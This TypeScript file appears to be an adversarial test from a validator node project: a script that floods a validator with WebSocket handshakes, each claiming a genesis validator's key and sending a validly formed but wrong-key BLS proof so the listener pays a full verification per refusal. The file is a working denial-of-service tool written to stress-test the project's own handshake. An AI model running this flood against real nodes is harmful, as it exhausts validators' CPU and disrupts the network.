/**
 * Handshake CPU flood (issue 11): opens p2p connections to a validator as fast as it can from one source address,
 * each claiming a real validator's public key (from the genesis) and following the shipping handshake
 * (`HandshakeSession`, so it speaks whatever the listener speaks) with a bogus proof: a well-formed signature by a key
 * of the attacker's own over the right message, which parses and fails only after the full pairing check — the most
 * verification work a proof can cost the listener.
 *
 *   node dist/test/adversarial/attacks/handshakeFlood.js BIND_HOST TARGET_HOST TARGET_PORT GENESIS CLAIM VICTIM CONCURRENCY DURATION_MS
 *
 * CLAIM is the validator index whose key it claims (one that dials VICTIM), CONCURRENCY the connections kept in
 * flight (a new one starts as soon as one ends). Prints `started`, then every second and at the end (DURATION_MS or
 * SIGTERM) one JSON line: attempts, upgrades refused (HTTP status), handshakes that got as far as our proof, closes.
 */
import { randomBytes } from "node:crypto";
import WebSocket from "ws";
import { runAttackLoop } from "./loop.js";
import { loadBlsBackend } from "../../../src/crypto/bls/backend.js";
import { keyGen } from "../../../src/crypto/bls/keygen.js";
import { FRAME_HANDSHAKE, FRAME_HEADER_BYTES, handshakeFrame } from "../../../src/net/framing.js";
import { HandshakeSession, NonceCache } from "../../../src/net/handshake.js";
import type { HandshakeContext } from "../../../src/net/handshake.js";
import { toHex } from "../../../src/util/bytes.js";
import { loadGenesis } from "../../../src/node/genesis.js";

const [bindHost, targetHost, portArg, genesisFile, claimArg, victimArg, concurrencyArg, durationArg] = process.argv.slice(2);
if (bindHost === undefined || targetHost === undefined || portArg === undefined || genesisFile === undefined || claimArg === undefined || victimArg === undefined || concurrencyArg === undefined || durationArg === undefined) {
  process.stderr.write("usage: handshakeFlood.js BIND_HOST TARGET_HOST TARGET_PORT GENESIS CLAIM VICTIM CONCURRENCY DURATION_MS\n");
  process.exit(2);
}
const backend = await loadBlsBackend("blst");
const genesis = await loadGenesis(genesisFile, backend);
const claim = Number(claimArg);
const victim = Number(victimArg);
const byKey = new Map(genesis.validators.map((v, i) => [toHex(v.publicKey), i]));
// Our own key: its signatures are valid points, so the listener pays a whole verification to refuse each proof.
const ours = backend.secretKeyFromBytes(keyGen(randomBytes(32)));
const ctx: HandshakeContext = {
  self: claim,
  chainId: genesis.chainIdBytes,
  identity: { publicKey: genesis.validators[claim]!.publicKey, sign: (m) => backend.signatureToBytes(backend.sign(ours, m), "compressed") },
  verify: () => true, // we never get far enough to care about the listener's proof
  indexOf: (pk) => byKey.get(toHex(pk)),
  dialsUs: (peer) => peer < claim,
  nonces: new NonceCache(),
  randomBytes: (n) => new Uint8Array(randomBytes(n)),
};
const url = `ws://${targetHost}:${Number(portArg)}/quire/link`;
const stats = { attempts: 0, refusedUpgrades: 0, proofsSent: 0, closed: 0 };

function openOne(): void {
  if (loop.stopping) return;
  stats.attempts++;
  const ws = new WebSocket(url, { localAddress: bindHost, handshakeTimeout: 5_000, perMessageDeflate: false });
  ws.binaryType = "nodebuffer";
  const session = new HandshakeSession(ctx, "dialer", victim);
  let ended = false;
  const end = (): void => {
    if (ended) return;
    ended = true;
    stats.closed++;
    ws.terminate();
    // As fast as we can: the next connection right away (setImmediate so a refusal loop still lets I/O run).
    if (!loop.stopping) setImmediate(openOne);
  };
  ws.on("unexpected-response", (req, res) => {
    stats.refusedUpgrades++;
    res.resume();
    req.destroy();
    end();
  });
  ws.on("open", () => {
    // The listener challenges first; a dialer's start() has nothing to send (kept for whichever side speaks first).
    const first = session.start();
    if (first !== undefined) ws.send(handshakeFrame(first));
  });
  ws.on("message", (data: Buffer) => {
    const f = new Uint8Array(data.buffer, data.byteOffset, data.length);
    if (f[0] !== FRAME_HANDSHAKE) return;
    void session.receive(f.subarray(FRAME_HEADER_BYTES)).then((steps) => {
      for (const s of steps) {
        if (s.kind === "send") {
          stats.proofsSent++;
          if (ws.readyState === WebSocket.OPEN) ws.send(handshakeFrame(s.bytes));
        } else if (s.kind === "refuse" || s.kind === "done") end();
      }
    });
  });
  ws.on("error", end);
  ws.on("close", end);
}

const loop = runAttackLoop(stats, Number(concurrencyArg), Number(durationArg), openOne);
